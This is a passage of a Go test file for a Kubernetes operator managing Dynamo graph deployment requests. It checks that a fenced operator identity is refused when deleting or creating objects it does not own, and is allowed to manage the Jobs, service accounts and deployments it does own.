	unmarkedRun := create(fenceRun(ns, "run-01", func(r *v1beta2.DynamoGraphDeploymentRun) { r.UID = "" }))

	owner := fenceRun(ns, "run-02", asResearch)
	searchJob := run.BuildJob(owner, c)
	baselineJob := run.BuildBaselineJob(owner, c)
	sa, binding := run.BuildSearchIdentity(owner)
	verifyJob := verificationJob(ns, c)
	requestRun, err := request.BuildRun(&v1beta2.DynamoGraphDeploymentRequest{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "llama",
		UID: "00000000-0000-4000-8000-00000000bbbb"}, Spec: admittedSpec()}, "sha256:in")
	if err != nil {
		t.Fatal(err)
	}
	for _, obj := range []client.Object{searchJob, baselineJob, sa, binding, verifyJob, requestRun} {
		create(obj)
	}

	refused := map[string]client.Object{
		"a ConfigMap in kube-system":                       systemConfigMap,
		"a tenant's Job":                                   foreignJob,
		"a ServiceAccount named like a search identity":    foreignIdentity,
		"a tenant's ConfigMap (the operator deletes none)": tenantConfigMap,
		"a Run no request made":                            unmarkedRun,
	}
	for what, obj := range refused {
		err := operator.Delete(ctx, obj, client.DryRunAll)
		if !apierrors.IsForbidden(err) {
			t.Errorf("deleting %s as the fenced operator: err = %v, want 403 Forbidden", what, err)
		}
	}
	admitted := map[string]client.Object{
		"its search Job": searchJob, "its baseline Job": baselineJob, "its search ServiceAccount": sa, "its search RoleBinding": binding,
		"its verification Job": verifyJob, "a request's Run": requestRun,
	}
	for what, obj := range admitted {
		if err := operator.Delete(ctx, obj, client.DryRunAll); err != nil {
			t.Errorf("deleting %s as the fenced operator: %v", what, err)
		}
	}
}

// TestOperatorFenceAdmitsAutoApplysDeployments: under the chart's fence the operator creates and
// updates the DynamoGraphDeployment autoApply renders (promote.Render with its request as owner:
// the applied-by annotation, and the dgdr.nvidia.com/name and /namespace labels of the request),
// and is refused (403) one without the applied-by annotation, whatever labels it carries.
func TestOperatorFenceAdmitsAutoApplysDeployments(t *testing.T) {
	ctx := context.Background()
	dgdCRD, err := upstreamcrd.DGD()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := envtest.InstallCRDs(env.Config, envtest.CRDInstallOptions{CRDs: []*apiextensionsv1.CustomResourceDefinition{dgdCRD}}); err != nil {
		t.Fatal(err)
	}
	ns := testenv.Namespace(t, k8s, "t")
	operator := fencedOperator(t, ns, "fenced-applier", cfg)
	cand := builders.Candidate(ns, "llama-run-1-c3").Label(v1beta2.LabelRequestName, "llama").Label(v1beta2.LabelRunName, "llama-run-1").
		GraphDeployment([]byte(`{"apiVersion":"nvidia.com/v1beta1","kind":"DynamoGraphDeployment","spec":{"backendFramework":"vllm",` +
			`"components":[{"name":"Frontend","type":"frontend","replicas":1,"podTemplate":{"spec":{"containers":[{"name":"main","image":"f"}]}}}]}}`)).Obj()
	owner := &promote.Owner{RequestUID: "00000000-0000-4000-8000-00000000aaaa", RequestName: "llama", Generation: 1}
	obj, err := promote.Render(cand, "llama", owner)
	if err != nil {
		t.Fatal(err)
	}
	if got := obj.GetLabels(); got[v1beta2.LabelDeployedForName] != "llama" || got[v1beta2.LabelDeployedForNamespace] != ns {
		t.Fatalf("the rendered deployment lacks its request's labels: %v", got)
	}
	if res, err := promote.Apply(ctx, operator, obj, owner); err != nil || res != promote.Created {
		t.Fatalf("the fenced operator creating autoApply's deployment: %s, %v", res, err)
	}
	newer := *owner
	newer.Generation = 2
	obj, err = promote.Render(cand, "llama", &newer)
	if err != nil {
		t.Fatal(err)
	}
	if res, err := promote.Apply(ctx, operator, obj, &newer); err != nil || res != promote.Updated {
		t.Errorf("the fenced operator updating autoApply's deployment: %s, %v", res, err)
	}
	unowned, err := promote.Render(cand, "llama-unowned", nil)
	if err != nil {
		t.Fatal(err)
	}
	unowned.SetAnnotations(map[string]string{promote.AnnotationPromotedFrom: cand.Name})
	if err := operator.Create(ctx, unowned); !apierrors.IsForbidden(err) {
		t.Errorf("the fenced operator creating a deployment without %s: err = %v, want 403 Forbidden", promote.AnnotationAppliedBy, err)
	}
}
